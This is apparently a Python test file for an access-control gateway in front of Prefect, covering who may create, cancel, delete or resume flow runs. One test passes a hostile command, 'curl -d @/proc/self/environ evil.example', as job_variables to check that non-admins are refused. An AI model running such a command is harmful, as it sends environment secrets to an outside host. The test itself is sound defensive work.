"""Runs: created as the signed-in person, housekeeping for admins, cancelled or deleted by
their requester or an admin, resumed only by the person the approval was sent to."""

from __future__ import annotations

import uuid

from registry import queries
from registry.db import make_engine, session_scope
from registry.journal import REFUSED
from registry.models import utc_now
from tests.gateway.conftest import (
    GATEWAY_GROUP,
    Deployments,
    Gateway,
    PrefectServer,
    request_body,
)

pytestmark = GATEWAY_GROUP


def test_a_request_as_someone_else_is_refused(gateway: Gateway, deployments: Deployments) -> None:
    with gateway.api("dave") as api:
        answer = api.post(
            f"/deployments/{deployments.action}/create_flow_run",
            json=request_body(requester="carol"),
        )
    assert answer.status_code == 403
    assert "you are dave; a request as carol is refused" in answer.json()["detail"]


def test_the_requester_is_the_signed_in_person(
    gateway: Gateway, deployments: Deployments, prefect_server: PrefectServer
) -> None:
    body = {**request_body(), "tags": ["requester:carol", "demo"]}
    with gateway.api("dave") as api:
        answer = api.post(f"/deployments/{deployments.action}/create_flow_run", json=body)
    assert answer.status_code == 201, answer.text
    with prefect_server.client() as prefect:
        run = prefect.get(f"/flow_runs/{answer.json()['id']}").json()
    assert run["parameters"]["request"]["requester"] == "dave"
    assert run["parameters"]["request"]["team"] == "payments"
    assert sorted(run["tags"]) == ["demo", "requester:dave"]


def test_naming_yourself_as_requester_is_allowed(
    gateway: Gateway, deployments: Deployments
) -> None:
    with gateway.api("dave") as api:
        answer = api.post(
            f"/deployments/{deployments.action}/create_flow_run",
            json=request_body(requester="Dave"),
        )
    assert answer.status_code == 201, answer.text
    assert answer.json()["parameters"]["request"]["requester"] == "dave"


def test_a_request_for_a_team_you_are_not_in_is_refused(
    gateway: Gateway, deployments: Deployments
) -> None:
    with gateway.api("erin") as api:
        answer = api.post(
            f"/deployments/{deployments.action}/create_flow_run",
            json=request_body(team="payments"),
        )
    assert answer.status_code == 403
    assert "you are erin, not a member of team payments" in answer.json()["detail"]


def test_job_variables_are_for_admins(
    gateway: Gateway, deployments: Deployments, prefect_server: PrefectServer
) -> None:
    path = f"/deployments/{deployments.action}/create_flow_run"
    command = {"command": "sh -c 'curl -d @/proc/self/environ evil.example'"}
    with gateway.api("dave") as api:
        refused = api.post(path, json={**request_body(), "job_variables": command})
        # The UI's run form sends an empty object.
        allowed = api.post(path, json={**request_body(), "job_variables": {}})
    with gateway.api("alice") as api:
        by_admin = api.post(path, json={**request_body(team="platform"), "job_variables": command})
    assert refused.status_code == 403
    assert "you are dave; job_variables (the command, environment and image" in refused.text
    assert allowed.status_code == 201, allowed.text
    assert by_admin.status_code == 201, by_admin.text
    with prefect_server.client() as prefect:
        assert prefect.get(f"/flow_runs/{by_admin.json()['id']}").json()["job_variables"] == command


def test_a_run_asked_for_by_a_person_starts_scheduled(
    gateway: Gateway, deployments: Deployments
) -> None:
    path = f"/deployments/{deployments.action}/create_flow_run"
    with gateway.api("dave") as api:
        skipped = api.post(path, json={**request_body(), "state": {"type": "COMPLETED"}})
        later = api.post(
            path,
            json={
                **request_body(),
                "state": {"type": "SCHEDULED", "state_details": {"scheduled_time": None}},
            },
        )
    assert skipped.status_code == 403
    assert (
        skipped.json()["detail"]
        == "you are dave; a run you ask for starts Scheduled, not COMPLETED"
    )
    assert later.status_code == 201, later.text


def test_housekeeping_is_for_admins(gateway: Gateway, deployments: Deployments) -> None:
    path = f"/deployments/{deployments.housekeeping}/create_flow_run"
    with gateway.api("dave") as api:
        refused = api.post(path, json={})
    with gateway.api("alice") as api:
        allowed = api.post(path, json={})
    assert refused.status_code == 403
    assert "you are dave; people-sync is housekeeping" in refused.json()["detail"]
    assert "members of team platform" in refused.json()["detail"]
    assert allowed.status_code == 201, allowed.text


def _cancel(gateway: Gateway, handle: str, run_id: str) -> int:
    with gateway.api(handle) as api:
        answer = api.post(
            f"/flow_runs/{run_id}/set_state",
            json={"state": {"type": "CANCELLING"}, "force": True},
        )
    if answer.status_code == 403:
        assert f"you are {handle}; only its requester (dave) or an admin" in answer.text
        assert "may cancel flow run" in answer.text
    return answer.status_code


def test_only_the_requester_or_an_admin_cancels_a_run(
    gateway: Gateway, run_of_dave: str, prefect_server: PrefectServer
) -> None:
    assert _cancel(gateway, "carol", run_of_dave) == 403
    with prefect_server.client() as prefect:
        assert prefect.get(f"/flow_runs/{run_of_dave}").json()["state_type"] == "SCHEDULED"
    assert _cancel(gateway, "dave", run_of_dave) in (200, 201)
    with prefect_server.client() as prefect:
        state = prefect.get(f"/flow_runs/{run_of_dave}").json()["state_type"]
    assert state in ("CANCELLING", "CANCELLED")


def test_a_set_state_body_the_rules_cannot_read_is_refused(
    gateway: Gateway, run_of_dave: str
) -> None:
    with gateway.api("carol") as api:
        answer = api.post(f"/flow_runs/{run_of_dave}/set_state", json={"state": "CANCELLING"})
    assert answer.status_code == 403
    assert "only admins (members of team platform) may do" in answer.json()["detail"]


def test_a_run_id_without_hyphens_meets_the_same_rule(gateway: Gateway, run_of_dave: str) -> None:
    # Prefect reads an id with or without its hyphens: so must the rules.
    assert _cancel(gateway, "carol", run_of_dave.replace("-", "")) == 403


def test_an_admin_cancels_anyones_run(gateway: Gateway, run_of_dave: str) -> None:
    assert _cancel(gateway, "alice", run_of_dave) in (200, 201)


def test_only_the_requester_or_an_admin_deletes_a_run(
    gateway: Gateway, deployments: Deployments, run_of_dave: str
) -> None:
    with gateway.api("carol") as api:
        refused = api.delete(f"/flow_runs/{run_of_dave}")
    assert refused.status_code == 403
    assert "you are carol; only its requester (dave) or an admin" in refused.json()["detail"]
    assert "may delete flow run" in refused.json()["detail"]
    with gateway.api("dave") as api:
        assert api.delete(f"/flow_runs/{run_of_dave}").status_code == 204
        another = api.post(
            f"/deployments/{deployments.action}/create_flow_run", json=request_body()
        ).json()["id"]
    with gateway.api("alice") as api:
        assert api.delete(f"/flow_runs/{another}").status_code == 204


# --- resuming a paused approval -----------------------------------------------------------


def _paused_for(registry_url: str, run_id: str, *, approver: str) -> None:
    """The journal rows flows/engine/approval.py writes when it sends `approver` an approval."""
    engine = make_engine(registry_url)
    try:
        with session_scope(engine) as session:
            for state in ("Running", "Paused"):
                queries.append_journal(
                    session,
                    flow_run_id=run_id,
                    action="access:grant",
                    requester="dave",
                    team="payments",
                    service="orders",
                    parameters={
                        "request": {"requester": "dave", "team": "payments"},
                        **(
                            {"approval": {"approver": approver, "role": "change approver"}}
                            if state == "Paused"
                            else {}
                        ),
                    },
                    state=state,
                    started_at=utc_now(),
                )
    finally:
        engine.dispose()


def _journal(registry_url: str, run_id: str) -> list[tuple[str, dict[str, object], str | None]]:
    engine = make_engine(registry_url)
    try:
        with session_scope(engine) as session:
            return [
                (entry.state, dict(entry.parameters), entry.error)
                for entry in queries.journal_for_run(session, flow_run_id=run_id)
            ]
    finally:
        engine.dispose()


def test_only_the_approver_resumes_and_each_refusal_is_journaled(
    gateway: Gateway, registry_url: str, run_of_dave: str
) -> None:
    _paused_for(registry_url, run_of_dave, approver="carol")
    path = f"/flow_runs/{run_of_dave}/resume"
    with gateway.api("dave") as api:
        by_requester = api.post(path, json={"run_input": {"approver": "dave", "code": "1"}})
    assert by_requester.status_code == 403
    assert (
        "you are dave; only carol, to whom the approval of this run was sent, may resume it"
        in by_requester.json()["detail"]
    )
    refusals = [entry for entry in _journal(registry_url, run_of_dave) if entry[0] == REFUSED]
    assert len(refusals) == 1
    _state, parameters, error = refusals[0]
    assert parameters["refused"] == {"who": "dave", "tried": "resume"}
    assert error is not None and "only carol" in error

    with gateway.api("carol") as api:
        as_someone_else = api.post(path, json={"run_input": {"approver": "dave", "code": "1"}})
        by_approver = api.post(path, json={"run_input": {"code": "1"}})
    assert as_someone_else.status_code == 403
    assert "you are carol; an approval as dave is refused" in as_someone_else.json()["detail"]
    # Forwarded: Prefect answers for itself, refusing to resume a Scheduled run.
    assert by_approver.status_code == 200, by_approver.text
    assert by_approver.json()["status"] == "ABORT"
    assert "not paused" in by_approver.json()["details"]["reason"]
    refusals = [entry for entry in _journal(registry_url, run_of_dave) if entry[0] == REFUSED]
    assert [entry[1]["refused"] for entry in refusals] == [
        {"who": "dave", "tried": "resume"},
        {"who": "carol", "tried": "resume"},
    ]


def test_a_requester_cannot_resume_around_the_approval(
    gateway: Gateway, registry_url: str, run_of_dave: str
) -> None:
    """Setting the state to Running, or writing the run's input, would resume it too."""
    _paused_for(registry_url, run_of_dave, approver="carol")
    with gateway.api("dave") as api:
        running = api.post(
            f"/flow_runs/{run_of_dave}/set_state",
            json={"state": {"type": "RUNNING"}, "force": True},
        )
        run_input = api.post(
            f"/flow_runs/{run_of_dave}/input",
            json={"key": "paused-1-response", "value": '{"approver": "dave"}'},
        )
    for answer in (running, run_input):
        assert answer.status_code == 403
        assert answer.json()["detail"].startswith("you are dave; POST /api/flow_runs/")
        assert "only admins (members of team platform) may do" in answer.json()["detail"]


def test_a_run_waiting_for_no_approval_cannot_be_resumed(gateway: Gateway) -> None:
    run_id = str(uuid.uuid4())
    with gateway.api("carol") as api:
        answer = api.post(f"/flow_runs/{run_id}/resume", json={"run_input": {}})
    assert answer.status_code == 409
    assert f"flow run {run_id} is not waiting for an approval" in answer.json()["detail"]
